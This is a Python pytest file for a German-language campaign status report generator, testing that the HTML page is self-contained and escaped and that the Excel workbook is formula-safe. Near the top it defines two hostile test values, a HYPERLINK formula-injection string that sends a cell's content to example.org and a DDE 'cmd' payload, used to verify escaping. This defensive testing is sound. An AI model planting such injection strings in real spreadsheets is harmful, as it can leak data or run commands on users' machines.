"""The status report's files: stand.html (offline, German, printable) and stand.xlsx
(a sheet per table, formula-safe), on the hand-built caseload."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from planner.campaign.coverage import coverage
from planner.campaign.model import Attempt
from planner.report.status import HIDDEN, build_report, status_html, write_status
from tests.caseload import ATTEMPTS, CASES, PERIOD

CREATED = datetime(2026, 12, 1, 9, 30)
#: A Kunden-Nr and a coach key as a hostile list or team file could bring them.
EVIL_ID = '=HYPERLINK("http://example.org/?x="&A1,"klick")'
EVIL_COACH = "+cmd|' /C calc'!A0"


def _evil_caseload() -> tuple[tuple, tuple]:  # type: ignore[type-arg]
    cases = tuple(
        replace(c, client=replace(c.client, id=EVIL_ID)) if c.id == "S7" else c for c in CASES
    )
    attempts: tuple[Attempt, ...] = tuple(
        replace(a, coach=EVIL_COACH) if a.coach == "jonas" else a for a in ATTEMPTS
    )
    return cases, attempts


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    cases, attempts = _evil_caseload()
    report = build_report(coverage(cases, attempts, PERIOD), created=CREATED,
                          coach_names={"anna": "Anna Becker"})  # fmt: skip
    return write_status(report, tmp_path_factory.mktemp("stand"))


def test_both_files_are_written_with_the_german_headings(written: tuple[Path, Path]) -> None:
    html, xlsx = written
    assert (html.name, xlsx.name) == ("stand.html", "stand.xlsx")
    text = html.read_text(encoding="utf-8")
    for heading in (
        "Beratung Mobil – Stand der Kampagne",
        "Auf einen Blick",
        "Erreicht je Gemeinde",
        "Erreicht je Region",
        "Erreicht im Zeitverlauf je Region",
        "Erreicht je Coach",
        "Kontakte je Monat",
        "Ergebnisse der Versuche im Zeitraum",
        "Warum Fälle nicht eingeplant werden",
        "Wer wartet am längsten",
        "So sind die Zahlen zu lesen",
    ):
        assert f">{heading}</h" in text, heading
    assert "Zeitraum <b>02.11.2026 bis 30.11.2026</b>" in text
    assert "Kleine Zahlen werden nicht gezeigt" in text and "&lt; 5" in text
    assert "Anna Becker" in text  # coach names from the team
    assert "an Ansprechperson übergeben" in text and "Coaching begonnen" in text


def test_the_page_is_self_contained_and_printable(written: tuple[Path, Path]) -> None:
    text = written[0].read_text(encoding="utf-8")
    assert "<script" not in text
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", text)
    assert not re.search(r"url\((?!#)", text)  # only the map's own hatch pattern
    assert "default-src 'none'" in text and "@page { size: A4" in text
    assert text.count("<path d=") == 23  # every municipality on the map
    assert "<polyline" in text  # the timeline
    assert 'fill="url(#hidden)"' in text  # small places are hatched, not coloured


def test_client_text_is_escaped_in_the_page(written: tuple[Path, Path]) -> None:
    text = written[0].read_text(encoding="utf-8")
    assert EVIL_ID not in text and "=HYPERLINK(&#34;http" in text


def test_the_workbook_has_a_sheet_per_table(written: tuple[Path, Path]) -> None:
    book = openpyxl.load_workbook(written[1])
    assert book.sheetnames == [
        "Überblick", "Regionen", "Gemeinden", "Coaches", "Monate", "Verlauf", "Ergebnisse",
        "Gründe", "Wartende", "Hinweise",
    ]  # fmt: skip
    regions = book["Regionen"]
    assert [c.value for c in regions[3]] == ["Region", "Personen", "erreicht", "Anteil erreicht"]
    rows = {r[0]: r[1:] for r in regions.iter_rows(min_row=4, values_only=True)}
    assert rows["Nord"] == (6, 3, 0.5) and rows["ohne Ort"] == (HIDDEN, None, None)
    assert regions.cell(row=4, column=4).number_format == "0%"
    assert regions.print_title_rows == "$3:$3"  # the header on every printed page
    assert str(regions.page_setup.paperSize) == regions.PAPERSIZE_A4 == "9"  # A4
    months = list(book["Monate"].iter_rows(min_row=4, values_only=True))
    assert months == [("November 2026", 10, HIDDEN, 22)]


def test_the_workbook_is_formula_safe(written: tuple[Path, Path]) -> None:
    book = openpyxl.load_workbook(written[1])
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    evil = [c for c in cells if c.value in (EVIL_ID, EVIL_COACH)]
    assert {c.value for c in evil} == {EVIL_ID, EVIL_COACH}  # shown as written …
    assert all(c.data_type == "s" and c.quotePrefix for c in evil)  # … but as text
    with zipfile.ZipFile(written[1]) as archive:
        xml = "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    assert "<f>" not in xml and "<f " not in xml


def test_without_single_cases_for_passing_on(tmp_path: Path) -> None:
    report = build_report(coverage(CASES, ATTEMPTS, PERIOD), created=CREATED, with_waiting=False)
    html, xlsx = write_status(report, tmp_path)
    text = html.read_text(encoding="utf-8")
    assert "Wer wartet am längsten" not in text and "N5" not in text
    assert "Wartende" not in openpyxl.load_workbook(xlsx).sheetnames


def test_an_empty_store_still_gives_a_report() -> None:
    report = build_report(coverage((), (), PERIOD), created=CREATED)
    text = status_html(report)
    assert "Auf einen Blick" in text and "Noch kein Verlauf" in text
